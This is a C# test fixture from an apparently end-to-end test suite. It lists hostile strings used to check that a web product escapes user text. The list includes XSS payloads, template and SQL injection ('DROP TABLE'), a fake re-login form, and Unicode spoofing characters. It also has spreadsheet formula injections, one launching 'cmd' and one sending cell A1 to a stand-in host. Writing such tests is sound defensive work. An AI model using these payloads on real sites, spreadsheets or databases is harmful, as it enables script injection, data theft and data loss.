namespace NeighborParty.EndToEndTests.Hosting;

/// <summary>
/// Texts that want to be more than text. Each is meant for another place: between tags, inside an attribute, an address, a script, a style, a template, a table's cell.
/// What would show that one got out: an alert, or something in the page that carries <see cref="Mark"/>.
/// </summary>
public static class HostileTexts
{
    /// <summary>An attribute, class, id or name that nothing of the product's own has.</summary>
    public const string Mark = "np-hostile";

    /// <summary>Out of a text and of both kinds of attributes: wherever words are shown as they are, this gets out, whichever of the texts stands before it.</summary>
    public const string WayOut = $"'\"><b {Mark}>";

    public static readonly IReadOnlyList<string> All =
    [
        // Tags.
        "<b np-hostile>",
        "<np-hostile>",
        "<p id=np-hostile>甲",
        "<script>alert(1)</script>",
        "<ScRiPt class='np-hostile'>alert(2)</sCrIpT >",
        "<<script>alert(3)//<</script>",
        "<img src=x class=np-hostile onerror=alert(4)>",
        "<img/src='x'/onerror='alert(5)'/np-hostile/>",
        "<img src=x\tonerror\n=\nalert(6) np-hostile",
        "<svg onload=alert(7) np-hostile>",
        "<svg np-hostile><animate onbegin=alert(8) attributeName=x dur=1s></svg>",
        "<svg np-hostile><a xlink:href='javascript:alert(9)'><text y=9>点</text></a></svg>",
        "<math np-hostile><mtext><style><img src=x onerror=alert(10)></style></mtext></math>",
        "<details open ontoggle=alert(11) np-hostile>",
        "<input autofocus onfocus=alert(12) np-hostile>",
        "<video np-hostile><source onerror=alert(13)></video>",
        "<iframe np-hostile srcdoc=\"<script>parent.alert(14)</script>\"></iframe>",
        "<object np-hostile data='data:text/html,<script>alert(15)</script>'></object>",
        "<embed np-hostile src=//np-hostile.example/x.swf>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(16)' class=np-hostile>",
        "<base href=//np-hostile.example/ class=np-hostile>",
        "<link rel=stylesheet href=//np-hostile.example/x.css class=np-hostile>",
        "<style class=np-hostile>*{display:none}</style>",
        "<form np-hostile action=//np-hostile.example><button>登录已过期，请重新登录</button></form>",
        "<button np-hostile form=np-main formaction=javascript:alert(17)>确定</button>",
        "<template np-hostile><img src=x onerror=alert(18)></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(19) np-hostile>\">",
        "<dialog open np-hostile><form method=dialog>密码<input></form></dialog>",
        // The end of what the text stands in.
        "</title><b np-hostile>",
        "</textarea><b np-hostile>",
        "</option></select><b np-hostile>",
        "</td></tr></table><b np-hostile>",
        "</main></body></html><b np-hostile>",
        "</script><script>alert(20)</script>",
        "</style><svg onload=alert(21) np-hostile>",
        "--><b np-hostile><!--",
        "<!-- <b np-hostile>",
        "<![CDATA[<b np-hostile>]]>",
        "<?xml version='1.0'?><b np-hostile>",
        // Attributes.
        "\"><b np-hostile>",
        "'><b np-hostile>",
        "\" np-hostile=\"",
        "' np-hostile='",
        "` np-hostile=`",
        "\" autofocus onfocus=alert(22) x=\"",
        "' onmouseover='alert(23)' x='",
        "x onpointerenter=alert(24) np-hostile",
        "\" style=\"position:fixed;inset:0\" np-hostile=\"",
        "\" hx-get=\"/admin/audit\" hx-trigger=\"load\" np-hostile=\"",
        "\" data-np-menu class=\"np-hostile\" x=\"",
        // Addresses.
        "javascript:alert(25)",
        "JaVaScRiPt\t:alert(26)//",
        "java\nscript:alert(27)",
        "data:text/html,<script>alert(28)</script>",
        "//np-hostile.example/%2e%2e",
        "\\\\np-hostile.example\\x",
        "/admin/audit?x=1&y=2#np-main\"><b np-hostile>",
        // Scripts, JSON and templates.
        "';alert(29)//",
        "\";alert(30)//",
        "\\\";alert(31)//\\u0022",
        "\\u003cscript\\u003ealert(32)\\u003c/script\\u003e",
        "${alert(33)}",
        "`${alert(34)}`",
        "{{constructor.constructor('alert(35)')()}}",
        "<%= alert(36) %> #{alert(37)} @(alert(38)) [[alert(39)]]",
        "{\"__proto__\":{\"np-hostile\":true}}",
        "],\"x\":[{\"y\":\"<script>alert(40)</script>\"}",
        "</script \u2028alert(41)\u2029",
        "%3Cb%20np-hostile%3E",
        "+ADw-script+AD4-alert(42)+ADw-/script+AD4-",
        // Styles.
        "expression(alert(43));behavior:url(#np-hostile)",
        "red;background:url(javascript:alert(44))",
        "}*{background:url(//np-hostile.example/x)}",
        // What is encoded once too often, or once too little.
        "&lt;b np-hostile&gt;",
        "&amp;lt;b np-hostile&amp;gt;",
        "&#60;b np-hostile&#62; &#x3C;b np-hostile&#x3E;",
        "&quot; np-hostile=&quot;",
        "&ltb np-hostile&gt &copy &nbsp;",
        // Tables' cells, lines, words that mean something to a program.
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"//np-hostile.example?\"&A1,\"点\")",
        "+1+1 -1-1 @SUM(1,1)",
        "＝1＋1",
        "\t=1+1",
        "甲,\"乙\";丙\r\n=1+1",
        "null undefined NaN true",
        "'; DROP TABLE \"People\"; --",
        "%s %n %x {0} {name} $1 \\0 \\x",
        // Characters that turn, hide, pile up or do not end.
        "甲\u202E\u2066乙\u2069丙",
        "甲\u200B\u200D\uFEFF\u00AD乙",
        "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
        "\U00020BB7野家 👨‍👩‍👧‍👦 🇨🇳",
        "甲\u2028乙\u2029丙",
        new string('W', 300),
        string.Concat(Enumerable.Repeat("http://np-hostile.example/", 12)),
        "甲\n\n\n\n乙\n    丙\t\t丁",
    ];
}
